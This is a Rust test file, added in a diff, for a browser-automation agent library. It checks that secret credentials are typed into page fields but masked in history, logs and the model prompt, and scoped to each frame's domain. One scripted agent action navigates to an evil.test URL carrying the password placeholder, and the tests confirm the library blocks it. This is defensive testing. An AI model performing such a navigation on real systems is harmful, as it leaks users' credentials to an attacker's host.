@@ -0,0 +1,451 @@
+//! Tests for secrets filled into actions from explicit values and providers
+
+mod common;
+
+use async_trait::async_trait;
+use browsing::agent::service::Agent;
+use browsing::agent::views::{AgentHistoryList, AgentSettings};
+use browsing::agent::{Credentials, CredentialsProvider, EnvCredentialsProvider, SecretString};
+use browsing::config::{ConfigBuilder, CredentialsSource};
+use browsing::dom::DOMProcessorImpl;
+use browsing::error::{BrowsingError, Result};
+use browsing::llm::base::{ChatInvokeCompletion, ChatMessage, ChatModel};
+use common::{FakePageBrowser, Received, fake_cdp, methods};
+use serde_json::{Value, json};
+use std::collections::HashMap;
+use std::sync::{Arc, Mutex};
+
+/// Provider with fixed secrets that records the lookups it gets
+#[derive(Default)]
+struct FakeProvider {
+    secrets: HashMap<String, String>,
+    lookups: Mutex<Vec<(String, String)>>,
+}
+
+impl FakeProvider {
+    fn new(pairs: &[(&str, &str)]) -> Self {
+        Self {
+            secrets: pairs
+                .iter()
+                .map(|(k, v)| (k.to_string(), v.to_string()))
+                .collect(),
+            ..Default::default()
+        }
+    }
+}
+
+#[async_trait]
+impl CredentialsProvider for FakeProvider {
+    async fn get(&self, domain: &str, key: &str) -> Option<SecretString> {
+        self.lookups
+            .lock()
+            .unwrap()
+            .push((domain.to_string(), key.to_string()));
+        self.secrets
+            .get(key)
+            .map(|v| SecretString::from(v.as_str()))
+    }
+
+    async fn keys(&self, _domain: &str) -> Vec<String> {
+        self.secrets.keys().cloned().collect()
+    }
+}
+
+/// Model that takes the given actions, one per step, then finishes, recording
+/// the system message
+#[derive(Clone, Default)]
+struct ScriptedLLM {
+    actions: Arc<Mutex<Vec<Value>>>,
+    system: Arc<Mutex<String>>,
+}
+
+impl ScriptedLLM {
+    fn new(actions: Vec<Value>) -> Self {
+        Self {
+            actions: Arc::new(Mutex::new(actions)),
+            ..Default::default()
+        }
+    }
+}
+
+#[async_trait]
+impl ChatModel for ScriptedLLM {
+    fn model(&self) -> &str {
+        "scripted"
+    }
+
+    fn provider(&self) -> &str {
+        "test"
+    }
+
+    async fn chat(&self, messages: &[ChatMessage]) -> Result<ChatInvokeCompletion<String>> {
+        *self.system.lock().unwrap() = messages[0].content.clone();
+        let mut actions = self.actions.lock().unwrap();
+        let action = if actions.is_empty() {
+            json!({ "action_type": "done", "params": { "text": "Signed in" } })
+        } else {
+            actions.remove(0)
+        };
+        Ok(ChatInvokeCompletion::new(
+            json!({ "action": [action] }).to_string(),
+        ))
+    }
+
+    async fn chat_stream(
+        &self,
+        _messages: &[ChatMessage],
+    ) -> Result<Box<dyn futures_util::stream::Stream<Item = Result<String>> + Send + Unpin>> {
+        Err(BrowsingError::Llm("Streaming is not supported".to_string()))
+    }
+}
+
+/// Log output written to a shared buffer
+#[derive(Clone, Default)]
+struct CapturedLogs(Arc<Mutex<Vec<u8>>>);
+
+impl std::io::Write for CapturedLogs {
+    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+        self.0.lock().unwrap().extend_from_slice(buf);
+        Ok(buf.len())
+    }
+
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+impl CapturedLogs {
+    fn text(&self) -> String {
+        String::from_utf8_lossy(&self.0.lock().unwrap()).into_owned()
+    }
+}
+
+/// Sign-in page with a username field in the page and a password field in
+/// the frame `F2` at `frame_url`
+fn sign_in_document() -> Value {
+    let element = |id: u64, name: &str, attributes: Value, children: Value| {
+        json!({
+            "nodeId": id, "backendNodeId": id, "nodeType": 1, "nodeName": name,
+            "attributes": attributes, "children": children
+        })
+    };
+    let frame_document = json!({
+        "nodeId": 20, "backendNodeId": 20, "nodeType": 9, "nodeName": "#document",
+        "frameId": "F2",
+        "children": [element(21, "HTML", json!([]), json!([element(22, "BODY", json!([]), json!([
+            element(23, "INPUT", json!(["type", "password", "name", "password"]), json!([]))
+        ]))]))]
+    });
+    let mut iframe = element(10, "IFRAME", json!(["src", "/frame"]), json!([]));
+    iframe["frameId"] = json!("F2");
+    iframe["contentDocument"] = frame_document;
+    json!({
+        "root": {
+            "nodeId": 1, "backendNodeId": 1, "nodeType": 9, "nodeName": "#document",
+            "children": [element(2, "HTML", json!([]), json!([element(3, "BODY", json!([]), json!([
+                element(4, "INPUT", json!(["type", "text", "name", "username"]), json!([])),
+                iframe
+            ]))]))]
+        }
+    })
+}
+
+/// Run `llm` on the sign-in page whose frame is at `frame_url`, returning the
+/// history and the CDP messages sent
+async fn run_agent(
+    llm: ScriptedLLM,
+    frame_url: &'static str,
+    configure: impl FnOnce(Agent<ScriptedLLM>) -> Agent<ScriptedLLM>,
+) -> (AgentHistoryList, Received) {
+    let (client, received) = fake_cdp(Box::new(move |method, _| match method {
+        "DOM.getDocument" => Ok(sign_in_document()),
+        "DOM.resolveNode" => Ok(json!({ "object": { "objectId": "field-1" } })),
+        "Page.getFrameTree" => Ok(json!({
+            "frameTree": {
+                "frame": { "id": "F1", "url": "https://example.com/login" },
+                "childFrames": [{ "frame": { "id": "F2", "url": frame_url } }]
+            }
+        })),
+        // The focus is in the frame when keys are sent
+        "Runtime.evaluate" => Ok(json!({ "result": { "type": "string", "value": frame_url } })),
+        _ => Ok(json!({})),
+    }))
+    .await;
+    let agent = Agent::new(
+        "Sign in".to_string(),
+        Box::new(FakePageBrowser { client }),
+        Box::new(DOMProcessorImpl::new()),
+        llm.clone(),
+    )
+    .with_max_steps(llm.actions.lock().unwrap().len() as u32 + 1);
+    let history = configure(agent).run().await.unwrap();
+    (history, received)
+}
+
+/// Every CDP message sent, as one string to search for values
+fn sent_text(received: &Received) -> String {
+    serde_json::to_string(&*received.lock().unwrap()).unwrap()
+}
+
+#[tokio::test]
+async fn test_explicit_secrets_are_looked_up_before_the_provider() {
+    let provider = Arc::new(FakeProvider::new(&[
+        ("username", "from-provider"),
+        ("password", "hunter2"),
+    ]));
+    let credentials = Credentials::new()
+        .with_secrets([("username".to_string(), "ada")])
+        .with_provider(provider.clone());
+
+    let username = credentials.get("example.com", "username").await.unwrap();
+    assert_eq!(username.expose_secret(), "ada");
+    let password = credentials.get("example.com", "password").await.unwrap();
+    assert_eq!(password.expose_secret(), "hunter2");
+    assert!(credentials.get("example.com", "pin").await.is_none());
+
+    assert_eq!(
+        *provider.lookups.lock().unwrap(),
+        [
+            ("example.com".to_string(), "password".to_string()),
+            ("example.com".to_string(), "pin".to_string())
+        ]
+    );
+    assert_eq!(
+        credentials.keys("example.com").await,
+        ["password", "username"]
+    );
+}
+
+#[tokio::test]
+async fn test_placeholders_are_replaced_in_nested_params() {
+    let credentials = Credentials::new().with_secrets([
+        ("username".to_string(), "ada"),
+        ("password".to_string(), "hunter2"),
+    ]);
+    let mut params = json!({
+        "text": "<secret>username</secret>:<secret> password </secret>",
+        "fields": [{ "value": "<secret>password</secret>" }],
+        "index": 3
+    });
+
+    let filled = credentials
+        .substitute("example.com", &mut params)
+        .await
+        .unwrap();
+
+    assert_eq!(filled.len(), 2);
+    assert_eq!(
+        params,
+        json!({ "text": "ada:hunter2", "fields": [{ "value": "hunter2" }], "index": 3 })
+    );
+}
+
+#[tokio::test]
+async fn test_unknown_secret_leaves_params_unchanged() {
+    let credentials = Credentials::new().with_secrets([("username".to_string(), "ada")]);
+    let mut params = json!({ "a": "<secret>username</secret>", "b": "<secret>pin</secret>" });
+
+    let err = credentials
+        .substitute("example.com", &mut params)
+        .await
+        .unwrap_err();
+
+    assert!(err.to_string().contains("No secret named 'pin'"), "{err}");
+    assert_eq!(params["a"], "<secret>username</secret>");
+}
+
+#[test]
+fn test_secret_string_is_redacted_when_printed() {
+    let secret = SecretString::from("hunter2");
+    assert_eq!(secret.to_string(), "***");
+    assert_eq!(format!("{secret:?}"), "SecretString(***)");
+    assert_eq!(secret.expose_secret(), "hunter2");
+
+    let credentials = Credentials::new().with_secrets([("password".to_string(), secret)]);
+    assert!(!format!("{credentials:?}").contains("hunter2"));
+}
+
+// Indices of the fields in the sign-in page state
+const USERNAME: u32 = 1;
+const PASSWORD: u32 = 2;
+
+fn input(index: u32, text: &str) -> Value {
+    json!({ "action_type": "input", "params": { "index": index, "text": text } })
+}
+
+#[tokio::test]
+async fn test_secrets_are_typed_but_masked_in_history_and_logs() {
+    let logs = CapturedLogs::default();
+    let writer = logs.clone();
+    let subscriber = tracing_subscriber::fmt()
+        .with_ansi(false)
+        .with_max_level(tracing::Level::TRACE)
+        .with_writer(move || writer.clone())
+        .finish();
+    let _guard = tracing::subscriber::set_default(subscriber);
+    let log_file =
+        std::env::temp_dir().join(format!("browsing-credentials-{}.jsonl", std::process::id()));
+    let _ = std::fs::remove_file(&log_file);
+    let provider = Arc::new(FakeProvider::new(&[("password", "hunter2")]));
+    let llm = ScriptedLLM::new(vec![
+        input(USERNAME, "<secret>username</secret>"),
+        input(PASSWORD, "<secret>password</secret>"),
+        json!({ "action_type": "send_keys", "params": { "keys": "<secret>password</secret> Enter" } }),
+    ]);
+    let settings = AgentSettings {
+        log_file: Some(log_file.clone()),
+        ..Default::default()
+    };
+
+    let (history, received) = run_agent(llm.clone(), "https://example.com/frame", |agent| {
+        agent
+            .with_settings(settings)
+            .with_secrets(HashMap::from([(
+                "username".to_string(),
+                "ada-lovelace".to_string(),
+            )]))
+            .with_credentials_provider(provider.clone())
+    })
+    .await;
+
+    // The values reach the page
+    let sent = sent_text(&received);
+    assert!(sent.contains("ada-lovelace") && sent.contains("hunter2"));
+    // The provider is asked by the host of the password field's frame
+    assert_eq!(
+        provider.lookups.lock().unwrap()[0],
+        ("example.com".to_string(), "password".to_string())
+    );
+    for step in &history.history[..3] {
+        assert!(step.result[0].error.is_none(), "{:?}", step.result);
+    }
+    assert_eq!(
+        history.history[2].result[0].long_term_memory.as_deref(),
+        Some("Sent keys: *** Enter")
+    );
+
+    // ...but never the history, the agent log or tracing output
+    let json = serde_json::to_string(&history).unwrap();
+    assert!(!json.contains("hunter2") && !json.contains("ada-lovelace"));
+    let log = std::fs::read_to_string(&log_file).unwrap();
+    std::fs::remove_file(&log_file).unwrap();
+    assert!(
+        !log.contains("hunter2") && !log.contains("ada-lovelace"),
+        "{log}"
+    );
+    let traced = logs.text();
+    assert!(traced.contains("Sent 2 keys"), "{traced}");
+    assert!(
+        !traced.contains("hunter2") && !traced.contains("ada-lovelace"),
+        "{traced}"
+    );
+
+    // The model is told the names, never the values
+    let system = llm.system.lock().unwrap().clone();
+    assert!(system.contains("<secrets>"), "{system}");
+    assert!(system.contains("password, username"), "{system}");
+    assert!(!system.contains("hunter2") && !system.contains("ada-lovelace"));
+}
+
+#[tokio::test]
+async fn test_secrets_are_refused_outside_typed_text() {
+    let llm = ScriptedLLM::new(vec![
+        json!({ "action_type": "navigate", "params": { "url": "https://evil.test/?p=<secret>password</secret>" } }),
+        json!({ "action_type": "done", "params": { "text": "<secret>password</secret>" } }),
+    ]);
+    let (history, received) = run_agent(llm, "https://example.com/frame", |agent| {
+        agent.with_secrets(HashMap::from([(
+            "password".to_string(),
+            "hunter2".to_string(),
+        )]))
+    })
+    .await;
+
+    for step in &history.history[..2] {
+        let error = step.result[0].error.as_deref().unwrap_or_default();
+        assert!(error.contains("Secrets can only be typed"), "{error}");
+    }
+    assert_ne!(history.history[1].result[0].is_done, Some(true));
+    assert!(!sent_text(&received).contains("hunter2"));
+    assert!(!methods(&received).contains(&"Page.navigate".to_string()));
+}
+
+#[tokio::test]
+async fn test_frame_from_another_site_gets_only_its_own_secrets() {
+    let provider = Arc::new(FakeProvider::default());
+    let llm = ScriptedLLM::new(vec![
+        input(USERNAME, "<secret>username</secret>"),
+        input(PASSWORD, "<secret>username</secret>"),
+    ]);
+    let (history, received) = run_agent(llm, "https://evil.test/frame", |agent| {
+        agent
+            .with_secrets(HashMap::from([(
+                "username".to_string(),
+                "ada-lovelace".to_string(),
+            )]))
+            .with_credentials_provider(provider.clone())
+    })
+    .await;
+
+    // Typed into the page itself, but not into the frame from evil.test
+    assert!(history.history[0].result[0].error.is_none());
+    let error = history.history[1].result[0].error.as_deref().unwrap();
+    assert!(
+        error.contains("No secret named 'username' for evil.test"),
+        "{error}"
+    );
+    assert_eq!(
+        *provider.lookups.lock().unwrap(),
+        [("evil.test".to_string(), "username".to_string())]
+    );
+    assert_eq!(sent_text(&received).matches("ada-lovelace").count(), 1);
+}
+
+#[tokio::test]
+async fn test_unknown_secret_fails_the_action() {
+    let llm = ScriptedLLM::new(vec![input(USERNAME, "PIN is <secret>pin</secret>")]);
+    let (history, _) = run_agent(llm, "https://example.com/frame", |agent| {
+        agent.with_secrets(HashMap::from([("username".to_string(), "ada".to_string())]))
+    })
+    .await;
+
+    let result = &history.history[0].result[0];
+    assert!(
+        result
+            .error
+            .as_deref()
+            .unwrap()
+            .contains("No secret named 'pin'"),
+        "{result:?}"
+    );
+}
+
+#[tokio::test]
+async fn test_env_provider_variable_names() {
+    let provider = EnvCredentialsProvider::with_prefix("BROWSING_TEST_CREDENTIALS_");
+    assert_eq!(
+        provider.variable_name("shop.example.com", "api-key"),
+        "BROWSING_TEST_CREDENTIALS_SHOP_EXAMPLE_COM__API_KEY"
+    );
+
+    // A variable without a domain is not a secret for every domain
+    let provider = EnvCredentialsProvider::with_prefix("");
+    assert!(std::env::var("PATH").is_ok());
+    assert!(provider.get("shop.example.com", "path").await.is_none());
+    assert!(provider.get("", "path").await.is_none());
+    assert!(provider.keys("shop.example.com").await.is_empty());
+}
+
+#[test]
+fn test_config_selects_the_env_provider() {
+    let config = ConfigBuilder::new().build().unwrap();
+    assert_eq!(config.credentials.provider, CredentialsSource::None);
+    assert!(config.credentials.provider().is_none());
+
+    let config = ConfigBuilder::new()
+        .from_vars([("BROWSING_CREDENTIALS_PROVIDER", "env")])
+        .build()
+        .unwrap();
+    assert_eq!(config.credentials.provider, CredentialsSource::Env);
+    assert!(config.credentials.provider().is_some());
+}